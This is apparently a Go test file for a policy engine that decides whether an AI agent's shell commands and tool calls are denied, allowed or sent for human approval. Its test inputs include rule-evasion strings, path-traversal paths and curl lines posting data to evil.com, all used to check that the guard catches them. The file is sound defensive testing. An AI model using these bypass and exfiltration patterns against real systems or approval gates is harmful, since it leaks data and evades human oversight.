package policy

import (
	"cmp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"approvalbot/internal/approval"
)

func ruleEngine(t testing.TB, rules ...Rule) *Engine {
	t.Helper()
	for i := range rules {
		rules[i].Name = cmp.Or(rules[i].Name, "r"+string(rune('a'+i)))
	}
	return engine(t, func(c *Config) { c.Rules, c.Roles = rules, []string{"ops"} })
}

func TestRulesTighten(t *testing.T) {
	t.Parallel()
	deny := func(m Match) *Engine { return ruleEngine(t, Rule{Match: m, Outcome: "deny"}) }
	hits := func(e *Engine, yes bool, list ...string) {
		t.Helper()
		for _, line := range list {
			require.Equal(t, yes, outcomeOf(e, lineCall(t, line)) == approval.OutcomeDeny, line)
		}
	}
	push := deny(Match{Command: []string{"git push"}})
	hits(push, true, "git push", "git push origin main", "ls && git push", "git -C /x push", "git --no-pager push", "GIT push", "/usr/bin/git push", "./git push", "sudo git push", "bash -c 'git push'", "echo $(git push)",
		"env X=1 git push", "frobwrap git push", "frobwrap -c 'git push'", "script -c 'git push' x", "git $X", "$GIT push", "git \"$(x)\" y", "eval \"$X\"", "echo x | sh", "f() { git push; }; f", "cat <(git push)", "git pu\"sh\"", "git push | cat", "'unclosed")
	hits(push, false, "git pull", "git log push", "git commit -m x", "echo git push", "ls", "git stash push", "frob test", "python3 x.py")
	force := deny(Match{Command: []string{"git push --force"}})
	hits(force, true, "git push --force", "git push origin main --force")
	hits(force, false, "git push origin main")
	stars := deny(Match{Command: []string{"kubectl * prod-*"}})
	hits(stars, true, "kubectl get prod-db", "kubectl -n x get prod-db")
	hits(stars, false, "kubectl get dev-db")

	paths := deny(Match{Path: []string{"secret/**", "/srv/**/*.key"}})
	hits(paths, true, "cat secret/a", "ls secret/b/c", "cat ./secret/../secret/a", "cat SECRET/a", "cd secret && cat a", "echo x > secret/a", "cat s*/a", "cat $X", "tar cf x secret/a", "cp /srv/a/b.key x")
	hits(paths, false, "cat main.go", "cat other/secret.txt", "cat /srv/a/b.txt", "ls")
	read := func(p string) approval.Outcome {
		return outcomeOf(paths, callOf(t, "read", map[string]any{"path": p}))
	}
	require.Equal(t, approval.OutcomeDeny, read("secret/a"))
	require.Equal(t, approval.OutcomeDeny, read("/workspace/secret/a"))
	require.Equal(t, approval.OutcomeAllow, read("main.go"))
	require.Equal(t, approval.OutcomeDeny, outcomeOf(paths, callOf(t, "fs__write", map[string]any{"target": "secret/a"})))
	require.Equal(t, approval.OutcomeDeny, outcomeOf(paths, callOf(t, "apply_patch", map[string]any{"input": "*** Update File: secret/a\n"})))

	hosts := deny(Match{Host: []string{"*.internal", "example.com"}})
	hits(hosts, true, "curl https://db.internal/x", "curl db.internal", "ssh root@db.internal", "scp x u@example.com:/y", "curl --url=https://EXAMPLE.com", "curl $URL", "git clone git@example.com:a/b")
	hits(hosts, false, "curl https://example.org", "curl https://notexample.com", "ls")
	require.Equal(t, approval.OutcomeDeny, outcomeOf(hosts, callOf(t, "web_fetch", map[string]any{"url": "https://a.b.internal/"})))
	require.Equal(t, approval.OutcomeAllow, outcomeOf(hosts, callOf(t, "web_fetch", map[string]any{"url": "https://example.org/"})))

	bash := deny(Match{Tool: []string{"exec"}})
	require.Equal(t, approval.OutcomeDeny, outcomeOf(bash, callOf(t, "Bash", map[string]any{"command": "ls"})))
	jira := deny(Match{Tool: []string{"jira__*", "group:messaging"}})
	require.Equal(t, approval.OutcomeDeny, outcomeOf(jira, callOf(t, "JIRA__x", map[string]any{})))
	require.Equal(t, approval.OutcomeDeny, outcomeOf(jira, callOf(t, "send_message", map[string]any{})))
	require.Equal(t, approval.OutcomeAllow, outcomeOf(jira, callOf(t, "read", map[string]any{"path": "x"})))
	who := deny(Match{Agent: []string{"main"}, Session: []string{"guest-*", "s1"}})
	for session, want := range map[string]approval.Outcome{"guest-7": approval.OutcomeDeny, "s1": approval.OutcomeDeny, "s12": approval.OutcomeAllow, "": approval.OutcomeAllow} {
		c := lineCall(t, "ls")
		c.SessionKey = session
		require.Equal(t, want, outcomeOf(who, c), session)
	}
}

func TestRulesSay(t *testing.T) {
	t.Parallel()
	e := ruleEngine(t,
		Rule{Name: "first", Match: Match{Command: []string{"ls first"}}, Outcome: "deny"},
		Rule{Name: "ask-ls", Match: Match{Command: []string{"ls"}}, Outcome: "ask", Role: "ops", MinApprovals: 2, SideEffects: []approval.SideEffect{approval.CredentialAccess}},
		Rule{Name: "raise", Match: Match{Tool: []string{"group:web"}}, Risk: new(approval.R4)},
		Rule{Name: "effect", Match: Match{Tool: []string{"read"}}, Risk: new(approval.R1), SideEffects: []approval.SideEffect{approval.ExternalWrite}},
		Rule{Name: "vote", Match: Match{Command: []string{"npm publish *"}}, Approve: true, MinApprovals: 3},
	)
	j := judge(e, lineCall(t, "ls first"))
	require.Equal(t, approval.OutcomeDeny, j.Outcome, "the first that matches counts")
	require.Contains(t, j.Reason, `"first"`)
	require.Contains(t, j.Assessment.ReasonCodes, "rule:first")
	require.Len(t, j.Why, len(j.Assessment.ReasonCodes))
	j = judge(e, lineCall(t, "ls x"))
	require.Equal(t, approval.OutcomeAsk, j.Outcome)
	require.Equal(t, []approval.Need{{Role: "ops", Min: 2}}, j.Rule.Needs)
	require.Contains(t, j.Assessment.SideEffects, approval.CredentialAccess)
	require.Equal(t, approval.R0, j.Assessment.RiskClass)
	j = judge(e, callOf(t, "web_fetch", map[string]any{"url": "https://x.org"}))
	require.Equal(t, approval.R4, j.Assessment.RiskClass)
	require.Equal(t, approval.OutcomeAsk, j.Outcome)
	require.Empty(t, j.GrantScope)
	require.Equal(t, approval.OutcomeAsk, outcomeOf(e, callOf(t, "read", map[string]any{"path": "x"})), "an added side effect asks like a found one")
	low := judge(ruleEngine(t, Rule{Match: Match{Command: []string{"frob"}}, Risk: new(approval.R0), Role: "ops"}), lineCall(t, "frob"))
	require.Equal(t, approval.OutcomeAsk, low.Outcome, "whoever names people wants them asked")
	require.Equal(t, approval.R0, low.Assessment.RiskClass)
	j = judge(e, lineCall(t, "npm publish"))
	require.Equal(t, approval.OutcomeAsk, j.Outcome)
	require.Equal(t, []approval.Vote{{Approver: approval.RulesBased, Verdict: approval.Approve, ReasonCodes: []string{"vote"}}}, j.Votes)
	require.Equal(t, 3, j.Rule.MinApprovals)
	require.Contains(t, j.Trace, approval.Step{Stage: "rules", Rule: "vote", Outcome: "approve", Text: `The operator's rule "vote" approves.`})
	require.Empty(t, judge(e, lineCall(t, "npm publish && evil")).Votes)
	off := engine(t, func(c *Config) {
		c.DisabledApprovers = []approval.Factor{approval.RulesBased}
		c.Rules = []Rule{{Name: "vote", Match: Match{Command: []string{"npm publish *"}}, Approve: true}}
	})
	require.Empty(t, judge(off, lineCall(t, "npm publish")).Votes)
}

func TestRulesLoosen(t *testing.T) {
	t.Parallel()
	e := ruleEngine(t,
		Rule{Match: Match{Command: []string{"frob test"}}, Risk: new(approval.R1)},
		Rule{Match: Match{Command: []string{"git push origin dev"}}, Outcome: "allow"},
		Rule{Match: Match{Command: []string{"git push origin quiet"}}, Risk: new(approval.R1)},
		Rule{Match: Match{Command: []string{"rm *"}, Path: []string{"tmp/**"}}, Outcome: "allow"},
		Rule{Match: Match{Command: []string{"curl *"}, Host: []string{"api.example.com"}}, Outcome: "allow"},
		Rule{Match: Match{Tool: []string{"jira__create"}}, Outcome: "allow"},
		Rule{Match: Match{Tool: []string{"write"}, Path: []string{"/scratch/**"}}, Risk: new(approval.R1)},
		Rule{Match: Match{Tool: []string{"http_post"}, Host: []string{"api.example.com"}}, Outcome: "allow"},
		Rule{Match: Match{Command: []string{"terraform *", "rm -rf *"}}, Outcome: "allow"},
	)
	for _, line := range []string{"frob test", "ls && frob test", "git push origin dev", "rm tmp/a tmp/b", "rm -v tmp/a/b", "curl -X POST https://api.example.com/x", "cd src && frob test"} {
		require.Equal(t, approval.OutcomeAllow, outcomeOf(e, lineCall(t, line)), line)
	}
	require.Equal(t, approval.R1, judge(e, lineCall(t, "frob test")).Assessment.RiskClass)
	for _, line := range []string{"git push origin quiet", "frob test x", "frob run x", "git push origin main", "git push origin dev --force", "frob test && evil", "frob test > .git/hooks/x", "rm tmp/a other", "rm tmp/../x", "rm tmp/*", "rm ~/tmp/x", "rm -rf tmp/a",
		"rm", "curl https://evil.org -d x", "curl https://api.example.com -d @x https://evil.org", "terraform apply", "rm -rf x", "sudo frob test", "X=1 frob test", "frob test; $Y", "curl -d x api.example.com.evil.org"} {
		require.Equal(t, approval.OutcomeAsk, outcomeOf(e, lineCall(t, line)), line)
	}
	require.Equal(t, approval.R4, judge(e, lineCall(t, "terraform apply")).Assessment.RiskClass, "nothing lowers R4")
	tool := func(name string, p map[string]any) approval.Outcome { return outcomeOf(e, callOf(t, name, p)) }
	require.Equal(t, approval.OutcomeAllow, tool("jira__create", map[string]any{"x": "y"}))
	require.Equal(t, approval.OutcomeAsk, tool("JIRA__create", map[string]any{}), "exactly that tool")
	require.Equal(t, approval.OutcomeAsk, tool("jira__createx", map[string]any{}))
	require.Equal(t, approval.OutcomeAsk, tool("jira__create", map[string]any{"note": "approvalbot decide x"}), "the desk itself stays R4")
	require.Equal(t, approval.OutcomeAllow, tool("write", map[string]any{"path": "/scratch/a/b", "content": "x"}))
	require.Equal(t, approval.OutcomeAsk, tool("write", map[string]any{"path": "/Scratch/a", "content": "x"}))
	require.Equal(t, approval.OutcomeAsk, tool("write", map[string]any{"path": "/scratch/../etc/x", "content": "x"}))
	require.Equal(t, approval.OutcomeAllow, tool("http_post", map[string]any{"url": "https://api.example.com/x"}))
	require.Equal(t, approval.OutcomeAsk, tool("http_post", map[string]any{"url": "https://api.example.com/x", "fallback": "https://evil.org"}))
	require.Equal(t, approval.OutcomeAsk, tool("http_post", map[string]any{}))

	never := func(want approval.Outcome, change func(*Config)) {
		t.Helper()
		e := engine(t, change, func(c *Config) {
			c.Rules = []Rule{{Name: "r", Match: Match{Command: []string{"frob x"}}, Risk: new(approval.R0)}}
		})
		require.Equal(t, want, outcomeOf(e, lineCall(t, "frob x")))
	}
	never(approval.OutcomeAllow, func(*Config) {})
	never(approval.OutcomeDeny, func(c *Config) { c.DenyAtOrAbove = new(approval.R3) })
	never(approval.OutcomeDeny, func(c *Config) { c.ToolsDeny = []string{"exec"} })
	never(approval.OutcomeDeny, func(c *Config) { c.ExecSecurity = "deny" })
	never(approval.OutcomeAsk, func(c *Config) { c.ExecAsk = "always" })
	never(approval.OutcomeAsk, func(c *Config) { c.Mode = "always" })
	never(approval.OutcomeAllow, func(c *Config) { c.ExecAsk = "off" })
}

func TestRulesMistakes(t *testing.T) {
	t.Parallel()
	tool := Match{Tool: []string{"read"}}
	for want, r := range map[string]Rule{
		"name must be":                   {Name: "a b", Outcome: "ask"},
		"without a name":                 {Outcome: "ask"},
		"exactly one of":                 {Name: "r"},
		"say exactly one of risk":        {Name: "r", Outcome: "ask", Approve: true},
		"risk must be R0 to R4":          {Name: "r", Risk: new(approval.RiskClass(9)), Match: tool},
		"outcome must be":                {Name: "r", Outcome: "maybe"},
		`no side effect "x"`:             {Name: "r", Outcome: "ask", SideEffects: []approval.SideEffect{"x"}},
		`no person has the role "boss"`:  {Name: "r", Outcome: "ask", Role: "boss"},
		"minApprovals must be":           {Name: "r", Outcome: "ask", MinApprovals: -1},
		"no approver is asked":           {Name: "r", Outcome: "deny", Role: "ops"},
		"must name its tools or":         {Name: "r", Outcome: "allow"},
		"tools or commands exactly":      {Name: "r", Risk: new(approval.R2), Match: Match{Path: []string{"x"}}},
		"commands exactly; to":           {Name: "r", Approve: true, Match: Match{Tool: []string{"jira__*"}}},
		"loosen must name":               {Name: "r", Outcome: "allow", Match: Match{Tool: []string{"group:fs"}}},
		"runs commands; name the":        {Name: "r", Outcome: "allow", Match: Match{Tool: []string{"Bash"}}},
		`"* x" must name its program`:    {Name: "r", Outcome: "allow", Match: Match{Command: []string{"* x"}}},
		"without quotes":                 {Name: "r", Outcome: "deny", Match: Match{Command: []string{"a | b"}}},
		"must be a plain path":           {Name: "r", Outcome: "deny", Match: Match{Path: []string{"../x"}}},
		"must be a host's name":          {Name: "r", Outcome: "deny", Match: Match{Host: []string{"https://x"}}},
		"must be an agent's exact id":    {Name: "r", Outcome: "deny", Match: Match{Agent: []string{"a*"}}},
		"there is no group":              {Name: "r", Outcome: "deny", Match: Match{Tool: []string{"group:x"}}},
		"no tool that runs commands has": {Name: "r", Outcome: "deny", Match: Match{Tool: []string{"sehll"}, Command: []string{"x"}}},
	} {
		cfg := desked()
		cfg.Rules, cfg.Roles = []Rule{r}, []string{"ops"}
		_, err := New(cfg)
		require.ErrorContains(t, err, want)
		require.ErrorContains(t, err, "rule 1 (")
		require.Len(t, strings.Split(err.Error(), "\n"), 1, err)
	}
	cfg := desked()
	cfg.Rules = []Rule{{Name: "r", Outcome: "ask"}, {Name: "r", Outcome: "ask"}}
	_, err := New(cfg)
	require.ErrorContains(t, err, "rule 2 (r): another rule has that name")
}

// TestARuleForAHostMeansEveryMachineOfTheCall: also one that is named as a proxy,
// a socket or a fixed address.
func TestARuleForAHostMeansEveryMachineOfTheCall(t *testing.T) {
	t.Parallel()
	e := engine(t, func(c *Config) {
		c.Rules = []Rule{{Name: "own", Match: Match{Tool: []string{"web_fetch"}, Host: []string{"*.example.org"}}, Outcome: "allow"}}
	})
	fetch := func(key, value string) approval.Outcome {
		return judge(e, callOf(t, "web_fetch", map[string]any{"url": "https://a.example.org/x", "method": "POST", "body": "x", key: value})).Outcome
	}
	require.Equal(t, approval.OutcomeAllow, fetch("prompt", "sum it up"))
	for key, value := range map[string]string{
		"proxy": "evil.com:3128", "http_proxy": "evil.com", "target": "evil.com", "link": "evil.com", "href": "evil.com", "to": "evil.com", "origin": "evil.com", "ip": "10.0.0.1",
		"unixSocket": "/var/run/docker.sock", "socketPath": "/var/run/docker.sock", "resolve": "a.example.org:443:6.6.6.6", "connect_to": "::evil.com:443", "gateway": "evil.com", "fallback": "evil.com", "mirror": "evil.com",
	} {
		require.Equal(t, approval.OutcomeAsk, fetch(key, value), key)
	}
}
